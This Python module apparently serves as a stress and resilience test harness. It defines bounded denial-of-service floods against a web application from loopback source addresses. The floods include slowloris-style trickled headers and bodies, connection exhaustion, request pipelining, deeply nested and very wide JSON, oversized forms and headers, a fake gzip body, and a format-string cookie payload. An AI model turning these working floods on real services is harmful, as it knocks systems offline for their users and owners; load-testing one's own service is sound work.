"""The floods: each holds or sends something on many connections at once, for as long as it is told and no longer.

All of them go to loopback, from addresses of 127.0.0.0/8, and are bounded in connections, bytes and time.
"""

import asyncio
import ssl
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from itertools import count

Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]
BYTE_EVERY_S = 0.5
GONE = (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ssl.SSLError)


@dataclass
class Target:
    """Where the flood goes, from how many addresses, and for how long (seconds); `token` is of an account of the flooder's own."""

    host: str
    port: int
    tls: bool
    sources: int
    lasts_s: float
    token: str = ""
    answers: dict[str, int] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self._places = count()
        self._context = ssl.create_default_context()
        self._context.check_hostname, self._context.verify_mode = False, ssl.CERT_NONE  # the proxy's own authority, on loopback

    async def connect(self, limit: int = 65_536) -> Connection:
        """Opens a connection from the next of the addresses."""
        place = next(self._places) % self.sources
        source = f"127.66.{place // 250}.{place % 250 + 1}"
        encrypted = {"ssl": self._context, "server_hostname": "localhost"} if self.tls else {}
        return await asyncio.open_connection(self.host, self.port, local_addr=(source, 0), limit=limit, **encrypted)

    def head(self, method: str, path: str, **headers: str) -> bytes:
        """Writes a request line and headers, without the empty line that ends them."""
        lines = [f"{method} {path} HTTP/1.1", f"Host: localhost:{self.port}"]
        lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
        return ("\r\n".join(lines) + "\r\n").encode()

    def note(self, what: str) -> None:
        """Counts what became of one try."""
        self.answers[what] = self.answers.get(what, 0) + 1


Flood = Callable[[Target], Awaitable[None]]


@dataclass(frozen=True)
class Attack:
    """One flood: `connections` at once, each doing `one`, from `sources` addresses; `again` opens a new one where one has ended."""

    name: str
    one: Callable[[Target], Awaitable[None]]
    connections: int
    sources: int = 1
    again: bool = True
    signed_in: bool = False

    async def run(self, target: Target) -> None:
        """Keeps the flood up for the target's time."""
        tasks = [asyncio.create_task(self._keep_up(target)) for _ in range(self.connections)]
        _done, pending = await asyncio.wait(tasks, timeout=target.lasts_s)
        for task in pending:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    async def _keep_up(self, target: Target) -> None:
        while True:
            try:
                await self.one(target)
            except GONE as error:
                target.note(type(error).__name__)
            if not self.again:
                return
            await asyncio.sleep(0.1)  # a flooder's machine has an end too


async def _answer(target: Target, connection: Connection) -> None:
    reader, writer = connection
    line = await reader.readline()
    target.note(line.decode("latin-1", "replace").split(" ")[1] if b" " in line else "closed")
    writer.close()


async def _drip(target: Target, connection: Connection, piece: Iterator[bytes]) -> None:
    reader, writer = connection
    answer = asyncio.create_task(reader.readline())
    try:
        for part in piece:
            writer.write(part)
            await writer.drain()
            done, _ = await asyncio.wait([answer], timeout=BYTE_EVERY_S)
            if done:
                break
        line = answer.result() if answer.done() else b""
        target.note(line.decode("latin-1", "replace").split(" ")[1] if b" " in line else "closed")
    finally:
        answer.cancel()
        with suppress(*GONE):
            writer.close()


def _endless(piece: bytes) -> Iterator[bytes]:
    while True:
        yield piece


async def trickled_bodies(target: Target) -> None:
    """A body of 900 bytes, of which one comes every half second."""
    connection = await target.connect()
    connection[1].write(target.head("POST", "/api/v1/sessions", Content_Type="application/json", Content_Length="900") + b"\r\n{")
    await _drip(target, connection, _endless(b" "))


async def slow_uploads(target: Target) -> None:
    """An upload of 20 MB, of which a hundred bytes come every half second, of one account."""
    connection = await target.connect()
    head = target.head(
        "POST",
        "/api/v1/application/documents",
        Authorization=f"Bearer {target.token}",
        Content_Type="multipart/form-data; boundary=b",
        Content_Length="20000000",
    )
    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.7\n'
    connection[1].write(head + b"\r\n" + part)
    await _drip(target, connection, _endless(b"a" * 100))


async def slow_heads(target: Target) -> None:
    """Headers of which one byte comes every half second."""
    connection = await target.connect()
    connection[1].write(target.head("GET", "/"))
    await _drip(target, connection, _endless(b"x"))


async def idle(target: Target) -> None:
    """A connection that says nothing."""
    reader, writer = await target.connect()
    target.note("closed" if not await reader.read(1) else "spoke")
    writer.close()


async def kept_alive(target: Target) -> None:
    """A connection that asks once and is then kept."""
    reader, writer = await target.connect()
    writer.write(target.head("GET", "/healthz") + b"\r\n")
    while await reader.read(4096):
        pass
    target.note("closed")
    writer.close()


async def pipelined(target: Target) -> None:
    """Three thousand requests in one breath on one connection, whose answers are read."""
    reader, writer = await target.connect()
    reading = asyncio.create_task(_read_all(reader))
    try:
        writer.write((target.head("GET", "/") + b"\r\n") * 3000)
        await writer.drain()
        target.note("read" if await reading else "closed")
    finally:
        reading.cancel()
        writer.close()


async def unread_pipeline(target: Target) -> None:
    """Requests in one breath, whose answers are never read."""
    _reader, writer = await target.connect(limit=1024)
    writer.write((target.head("GET", "/assets/govuk-frontend.min.css") + b"\r\n") * 500)
    await writer.drain()
    await asyncio.sleep(target.lasts_s)
    writer.close()


async def _read_all(reader: asyncio.StreamReader) -> int:
    seen = 0
    while piece := await reader.read(65_536):
        seen += len(piece)
    return seen


async def _post(target: Target, path: str, body: bytes, kind: str = "application/json", **headers: str) -> None:
    connection = await target.connect()
    writer = connection[1]
    writer.write(target.head("POST", path, Content_Type=kind, Content_Length=str(len(body)), **headers) + b"\r\n" + body)
    with suppress(*GONE):  # refused before all of it was sent
        await writer.drain()
    await _answer(target, connection)


async def deep_json(target: Target) -> None:
    """990 kB of brackets where a token is due."""
    await _post(target, "/api/v1/sessions/refresh", b'{"refresh_token":[' + b"[]," * 329_990 + b"[]]}")


async def wide_json(target: Target) -> None:
    """A hundred thousand fields that nobody asked for."""
    fields = b",".join(b'"f%d":1' % number for number in range(80_000))
    await _post(target, "/api/v1/sessions", b"{" + fields + b"}")


async def wide_form(target: Target) -> None:
    """A form of a hundred thousand fields."""
    await _post(target, "/session", b"&".join(b"f%d=1" % number for number in range(80_000)), "application/x-www-form-urlencoded")


async def many_parts(target: Target) -> None:
    """An upload of twenty thousand parts, of one account."""
    body = (
        b"".join(b'--b\r\nContent-Disposition: form-data; name="f%d"\r\n\r\n1\r\n' % number for number in range(20_000))
        + b"--b--\r\n"
    )
    kind = "multipart/form-data; boundary=b"
    await _post(target, "/api/v1/application/documents", body, kind, Authorization=f"Bearer {target.token}")


async def packed_bodies(target: Target) -> None:
    """A body said to be packed, which may unpack to anything."""
    await _post(target, "/api/v1/sessions", b"\x1f\x8b" + b"\0" * 200_000, Content_Encoding="gzip")


async def format_cookies(target: Target) -> None:
    """A message of the page before that asks for 400 million zeros."""
    connection = await target.connect()
    cookie = "college-flash=WyIlKGEpMDQwMDAwMDAwMGQiLHsiYSI6MX1d; __Host-college-flash=WyIlKGEpMDQwMDAwMDAwMGQiLHsiYSI6MX1d"
    connection[1].write(target.head("GET", "/signed-out", Cookie=cookie) + b"\r\n")
    await _answer(target, connection)


async def wide_heads(target: Target) -> None:
    """Ninety headers of eight kilobytes."""
    connection = await target.connect()
    connection[1].write(target.head("GET", "/", **{f"X_{number}": "v" * 8000 for number in range(90)}) + b"\r\n")
    with suppress(*GONE):
        await connection[1].drain()
    await _answer(target, connection)


async def half_closed(target: Target) -> None:
    """A request whose sender closes its own side in the middle of the body."""
    connection = await target.connect()
    writer = connection[1]
    writer.write(target.head("POST", "/api/v1/sessions", Content_Type="application/json", Content_Length="900") + b'\r\n{"login"')
    await writer.drain()
    if writer.can_write_eof():
        writer.write_eof()
    await _answer(target, connection)


async def unread_answers(target: Target) -> None:
    """The largest public file, asked for and never read."""
    _reader, writer = await target.connect(limit=1024)
    writer.write(target.head("GET", "/api/v1/openapi.json") + b"\r\n")
    await writer.drain()
    await asyncio.sleep(target.lasts_s)
    writer.close()


async def come_and_go(target: Target) -> None:
    """A connection that is closed as soon as it is open."""
    _reader, writer = await target.connect()
    target.note("opened")
    writer.close()


ATTACKS = {
    attack.name: attack
    for attack in (
        Attack("trickled bodies", trickled_bodies, 300),
        Attack("trickled bodies, many addresses", trickled_bodies, 600, sources=600),
        Attack("slow uploads of one account", slow_uploads, 270, sources=27, signed_in=True),
        Attack("slow headers", slow_heads, 600, sources=60),
        Attack("idle connections", idle, 1030, sources=1030),
        Attack("kept connections", kept_alive, 1030, sources=1030),
        Attack("pipelined requests", pipelined, 1),
        Attack("pipelined requests, 20 connections", pipelined, 20, sources=20),
        Attack("pipelined, answers not read", unread_pipeline, 50, sources=50, again=False),
        Attack("deep JSON", deep_json, 25, sources=25),
        Attack("wide JSON", wide_json, 25, sources=25),
        Attack("wide form", wide_form, 25, sources=25),
        Attack("many parts", many_parts, 10, sources=10, signed_in=True),
        Attack("packed bodies", packed_bodies, 25, sources=25),
        Attack("cookies that are formats", format_cookies, 10, sources=10),
        Attack("large headers", wide_heads, 50, sources=50),
        Attack("half-closed bodies", half_closed, 300, sources=300),
        Attack("answers not read", unread_answers, 300, sources=300, again=False),
        Attack("opened and closed", come_and_go, 50, sources=50),
    )
}
